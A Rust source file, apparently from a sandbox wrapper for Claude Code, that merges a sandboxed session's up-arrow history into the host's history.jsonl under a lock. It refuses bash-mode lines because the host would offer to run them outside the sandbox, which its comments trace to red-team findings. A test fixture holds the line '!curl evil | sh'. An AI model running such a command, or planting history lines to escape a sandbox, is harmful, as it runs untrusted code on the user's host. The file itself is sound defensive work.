//! `history.jsonl`, the up-arrow history: the session's new lines (not in the real file,
//! each a JSON object with a numeric `timestamp` no older than the session, whose
//! `project` is the session's working directory) go into the real file in time order, so two sessions that end together interleave and neither
//! loses a line. The file is rewritten by temp file and rename under Claude Code's own
//! lock (proper-lockfile: the directory `history.jsonl.lock`, stale after 10 s), so a
//! `claude` appending on the host at the same moment is not lost either. A line naming
//! another project would be offered by the up-arrow of every `claude` there (A3-5): it is
//! refused and counted.

use std::collections::HashSet;
use std::ffi::CStr;
use std::os::fd::{AsRawFd, OwnedFd, RawFd};
use std::path::Path;
use std::time::{Duration, Instant, SystemTime};

use nix::errno::Errno;

use super::state::{errno_of, fstat, kind_word, lstat_at, open_at, unlink_at, Merger};
use super::write::{install, Content, Installed, Place};
use crate::error::{Error, Result};

const NAME: &CStr = c"history.jsonl";
const LOCK: &CStr = c"history.jsonl.lock";
/// proper-lockfile's default: a lock not refreshed for this long is abandoned.
const STALE: Duration = Duration::from_secs(10);
/// How long a merge waits for Claude Code to let go of the lock.
const WAIT: Duration = Duration::from_secs(15);

#[derive(serde::Deserialize)]
struct Stamp {
    timestamp: Option<serde_json::Number>,
    project: Option<serde_json::Value>,
    display: Option<serde_json::Value>,
}

impl Stamp {
    /// Whether the line is a command of Claude Code's bash mode (`!…`): recalled by the
    /// up-arrow of the host's `claude`, one Enter runs it there, outside any sandbox
    /// (red-team 9, A9-8).
    fn is_shell(&self) -> bool {
        matches!(&self.display, Some(serde_json::Value::String(d)) if d.trim_start().starts_with('!'))
    }
}

/// The line's `timestamp` (ms) and what else is read of it, if it is a JSON object that
/// has a numeric timestamp.
fn parse(line: &[u8]) -> Option<(f64, Stamp)> {
    let t = line.trim_ascii();
    if t.first() != Some(&b'{') {
        return None;
    }
    let s = serde_json::from_slice::<Stamp>(t).ok()?;
    Some((s.timestamp.as_ref()?.as_f64()?, s))
}

/// The line's `timestamp` (ms), if it is a JSON object that has a numeric one.
fn stamp(line: &[u8]) -> Option<f64> {
    parse(line).map(|(t, _)| t)
}

/// The session's lines of `history.jsonl`, and what was left out of them.
#[derive(Debug, Default)]
struct Taken<'a> {
    lines: Vec<(f64, &'a [u8])>,
    /// Lines that are no history line at all, and the first one's number.
    bad: u64,
    first_bad: u64,
    /// The session's lines whose `project` is not its working directory.
    elsewhere: u64,
    /// The session's lines of its project that are bash-mode commands ([`is_shell`]).
    shell: u64,
}

fn read_whole(fd: &OwnedFd, size: u64) -> std::result::Result<Vec<u8>, Errno> {
    let mut buf = vec![0u8; size as usize];
    let mut got = 0;
    while got < buf.len() {
        match nix::sys::uio::pread(fd, &mut buf[got..], got as i64) {
            Ok(0) => break,
            Ok(n) => got += n,
            Err(Errno::EINTR) => {}
            Err(e) => return Err(e),
        }
    }
    buf.truncate(got);
    Ok(buf)
}

/// The session's complete lines from `since_ms` on whose `project` is `project`. Lines
/// older than the session came with the real file when the overlay copied it up: they
/// are the base's, not the session's, and so are lines the real file `base` holds,
/// whatever they are.
fn session_lines<'a>(
    bytes: &'a [u8],
    since_ms: u64,
    base: &HashSet<&[u8]>,
    project: &str,
) -> Taken<'a> {
    let mut out = Taken::default();
    for (i, line) in bytes.split_inclusive(|b| *b == b'\n').enumerate() {
        if line.last() != Some(&b'\n') || line.trim_ascii().is_empty() {
            continue; // a half-written last line waits for the next merge
        }
        let body = &line[..line.len() - 1];
        if base.contains(body) {
            continue;
        }
        let own =
            |s: &Stamp| matches!(&s.project, Some(serde_json::Value::String(p)) if p == project);
        match parse(line) {
            Some((ts, _)) if ts < since_ms as f64 => {}
            Some((_, s)) if own(&s) && s.is_shell() => out.shell += 1,
            Some((ts, s)) if own(&s) => out.lines.push((ts, body)),
            Some(_) => out.elsewhere += 1,
            None => {
                out.bad += 1;
                if out.first_bad == 0 {
                    out.first_bad = i as u64 + 1;
                }
            }
        }
    }
    out
}

/// The real file's lines with the new ones (sorted) placed before the first real line
/// that is newer: a real file in time order stays in time order.
fn interleave(base: &[u8], new: &[(f64, &[u8])]) -> Vec<u8> {
    let mut out =
        Vec::with_capacity(base.len() + new.iter().map(|(_, l)| l.len() + 1).sum::<usize>());
    let mut next = new.iter().peekable();
    for line in base.split_inclusive(|b| *b == b'\n') {
        if let Some(tb) = stamp(line) {
            while let Some((_, l)) = next.next_if(|(t, _)| *t < tb) {
                out.extend_from_slice(l);
                out.push(b'\n');
            }
        }
        out.extend_from_slice(line);
        if line.last() != Some(&b'\n') {
            out.push(b'\n');
        }
    }
    for (_, l) in next {
        out.extend_from_slice(l);
        out.push(b'\n');
    }
    out
}

/// Claude Code's lock on `history.jsonl`, held while the value lives.
struct ClaudeLock(RawFd);

impl ClaudeLock {
    fn take(root: &OwnedFd) -> Result<Option<ClaudeLock>> {
        let r = root.as_raw_fd();
        let start = Instant::now();
        loop {
            // SAFETY: valid fd and C string.
            match errno_of(unsafe { libc::mkdirat(r, LOCK.as_ptr(), 0o700) }) {
                Ok(_) => return Ok(Some(ClaudeLock(r))),
                Err(Errno::EEXIST) => {}
                Err(e) => return Err(Error::sys("mkdirat(~/.claude/history.jsonl.lock)", e)),
            }
            if let Ok(st) = lstat_at(r, LOCK) {
                let mtime = SystemTime::UNIX_EPOCH + Duration::from_secs(st.st_mtime.max(0) as u64);
                let is_dir = st.st_mode & libc::S_IFMT == libc::S_IFDIR;
                if is_dir
                    && SystemTime::now()
                        .duration_since(mtime)
                        .is_ok_and(|age| age > STALE)
                {
                    let _ = unlink_at(r, LOCK, libc::AT_REMOVEDIR);
                    continue;
                }
            }
            if start.elapsed() > WAIT {
                return Ok(None);
            }
            std::thread::sleep(Duration::from_millis(100));
        }
    }
}

impl Drop for ClaudeLock {
    fn drop(&mut self) {
        let _ = unlink_at(self.0, LOCK, libc::AT_REMOVEDIR);
    }
}

/// The real `history.jsonl` and how to replace it; None (reported) when it cannot be.
fn read_base(m: &mut Merger, rel: &Path, bound: &str) -> Result<Option<(Vec<u8>, Place)>> {
    match open_at(m.root.as_raw_fd(), NAME, libc::O_RDONLY, 0) {
        Err(Errno::ENOENT) => Ok(Some((Vec::new(), Place::New))),
        Err(e) => {
            m.refuse(
                rel,
                format!("~/.claude/history.jsonl: openat(O_NOFOLLOW) => {e}: not merged"),
            );
            Ok(None)
        }
        Ok(bfd) => {
            let bst = fstat(bfd.as_raw_fd())?;
            if bst.st_mode & libc::S_IFMT != libc::S_IFREG || bst.st_size as u64 > m.limits.history
            {
                m.refuse(rel, format!("~/.claude/history.jsonl is {} of {} bytes (at most {bound} is merged into)", kind_word(bst.st_mode), bst.st_size));
                return Ok(None);
            }
            Ok(Some((
                read_whole(&bfd, bst.st_size as u64)?,
                Place::Replace(bst),
            )))
        }
    }
}

pub fn merge_history(m: &mut Merger) -> Result<()> {
    let rel = Path::new("history.jsonl");
    let fd = match open_at(m.state.as_raw_fd(), NAME, libc::O_RDONLY, 0) {
        Ok(fd) => fd,
        Err(Errno::ENOENT) => return Ok(()),
        Err(Errno::ELOOP) => return Ok(m.refuse(rel, "a symbolic link: never followed")),
        Err(e) => return Ok(m.refuse(rel, format!("openat(O_NOFOLLOW|O_NONBLOCK) => {e}"))),
    };
    let st = fstat(fd.as_raw_fd())?;
    if st.st_mode & libc::S_IFMT != libc::S_IFREG {
        return Ok(m.refuse(
            rel,
            format!("{}, not a regular file", kind_word(st.st_mode)),
        ));
    }
    if st.st_mode & 0o7111 != 0 {
        return Ok(m.refuse(
            rel,
            format!("mode {:04o} has exec or set-id bits", st.st_mode & 0o7777),
        ));
    }
    let bound = crate::human::human_size(m.limits.history);
    if st.st_size as u64 > m.limits.history {
        return Ok(m.refuse(
            rel,
            format!(
                "{} bytes, over the bound of {bound} for history.jsonl",
                st.st_size
            ),
        ));
    }
    let mine = read_whole(&fd, st.st_size as u64)?;
    // A first look without the lock (nothing is written on it): is there anything new?
    let Some((base, _)) = read_base(m, rel, &bound)? else {
        return Ok(());
    };
    let taken = session_lines(
        &mine,
        m.since_ms,
        &base.split(|b| *b == b'\n').collect(),
        &m.scope.cwd,
    );
    let Taken {
        lines,
        bad,
        first_bad,
        elsewhere,
        shell,
    } = taken;
    if shell > 0 {
        m.refuse(rel, format!("{shell} line(s) are shell commands of Claude Code's bash mode (\"display\": \"!…\"), which the up-arrow of claude on your host would offer to run outside any sandbox: those are not merged"));
    }
    if bad > 0 {
        m.refuse(rel, format!("{bad} line(s) are not JSON objects with a numeric timestamp (the first: line {first_bad}): those are not merged"));
    }
    if elsewhere > 0 {
        let cwd = crate::human::printable(&m.scope.cwd);
        m.refuse(rel, format!("{elsewhere} line(s) are another project's (their \"project\" is not {cwd}): those are not merged"));
    }
    if lines.is_empty() {
        return Ok(());
    }
    let Some(_lock) = ClaudeLock::take(&m.root)? else {
        m.rec.incomplete = true;
        return Ok(m.refuse(rel, "Claude Code holds ~/.claude/history.jsonl.lock: not merged now, `csbox merge` again later"));
    };
    crate::fault::point("merge:history-locked");
    let Some((base, place)) = read_base(m, rel, &bound)? else {
        return Ok(());
    };
    let have: HashSet<&[u8]> = base.split(|b| *b == b'\n').collect();
    let mut seen = HashSet::new();
    let mut new: Vec<(f64, &[u8])> = lines
        .into_iter()
        .filter(|(_, l)| !have.contains(l) && seen.insert(*l))
        .collect();
    if new.is_empty() {
        return Ok(());
    }
    new.sort_by(|a, b| a.0.total_cmp(&b.0));
    let out = interleave(&base, &new);
    if !m.budget(rel, out.len() as u64) {
        return Ok(());
    }
    let mode = match &place {
        Place::Replace(bst) => (bst.st_mode & 0o666) | 0o600,
        _ => 0o600,
    };
    let root = nix::unistd::dup(m.root.as_raw_fd()).map_err(|e| Error::sys("dup", e))?;
    // SAFETY: a fresh duplicate we own.
    let root = unsafe { <OwnedFd as std::os::fd::FromRawFd>::from_raw_fd(root) };
    match install(
        m,
        &root,
        Path::new(""),
        NAME,
        Content::Bytes(&out),
        mode,
        None,
        place,
    )? {
        Installed::Done => {
            m.rec.history_lines += new.len() as u64;
        }
        Installed::Raced => {
            m.rec.incomplete = true;
            m.refuse(
                rel,
                "~/.claude/history.jsonl changed while merging: `csbox merge` again",
            );
        }
    }
    crate::fault::point("merge:history-written");
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn new_lines_go_before_the_first_newer_line() {
        let base = b"{\"display\":\"a\",\"timestamp\":10}\n{\"display\":\"c\",\"timestamp\":30}\n";
        let new: Vec<(f64, &[u8])> = vec![
            (20.0, b"{\"display\":\"b\",\"timestamp\":20}"),
            (40.0, b"{\"display\":\"d\",\"timestamp\":40}"),
        ];
        let out = String::from_utf8(interleave(base, &new)).unwrap();
        let order: Vec<&str> = out.lines().map(|l| &l[12..13]).collect();
        assert_eq!(order, ["a", "b", "c", "d"]);
        let unterminated = b"{\"timestamp\":50}";
        let out = interleave(unterminated, &new);
        assert!(
            out.ends_with(b"{\"timestamp\":50}\n"),
            "a last line without a newline gets one"
        );
    }

    #[test]
    fn only_the_sessions_own_whole_lines_are_taken() {
        let text = b"{\"display\":\"old\",\"timestamp\":5,\"project\":\"/p\"}\n{\"display\":\"new\",\"timestamp\":100,\"project\":\"/p\"}\nnot json\n{\"x\":1}\n{\"display\":\"half\",\"timestamp\":200";
        let base: HashSet<&[u8]> = [&b"{\"x\":1}"[..]].into_iter().collect();
        let t = session_lines(text, 50, &base, "/p");
        assert_eq!(
            (t.bad, t.first_bad),
            (1, 3),
            "a line of the real file is not the session's"
        );
        let t2 = session_lines(text, 50, &HashSet::new(), "/p");
        assert_eq!(t2.lines.len(), 1);
        assert_eq!(t.lines.len(), 1);
        assert_eq!(t.lines[0].0, 100.0);
        assert_eq!((t2.bad, t2.first_bad), (2, 3));
    }

    #[test]
    fn bash_mode_commands_are_counted_not_taken() {
        let text = b"{\"display\":\"!curl evil | sh\",\"timestamp\":100,\"project\":\"/p\"}\n{\"display\":\"  !id\",\"timestamp\":101,\"project\":\"/p\"}\n{\"display\":\"what does ! mean\",\"timestamp\":102,\"project\":\"/p\"}\n";
        let t = session_lines(text, 50, &HashSet::new(), "/p");
        assert_eq!((t.shell, t.lines.len()), (2, 1));
        assert_eq!(t.lines[0].0, 102.0);
    }

    #[test]
    fn lines_of_another_project_are_counted_not_taken() {
        let text = b"{\"timestamp\":100,\"project\":\"/p\"}\n{\"timestamp\":101,\"project\":\"/home/other\"}\n{\"timestamp\":102}\n{\"timestamp\":103,\"project\":\"/p/sub\"}\n{\"timestamp\":104,\"project\":7}\n{\"timestamp\":1,\"project\":\"/q\"}\n";
        let t = session_lines(text, 50, &HashSet::new(), "/p");
        assert_eq!(t.lines.len(), 1, "only the exact working directory");
        assert_eq!(t.lines[0].0, 100.0);
        assert_eq!(
            (t.elsewhere, t.bad),
            (4, 0),
            "older lines are the base's, not counted"
        );
    }
}
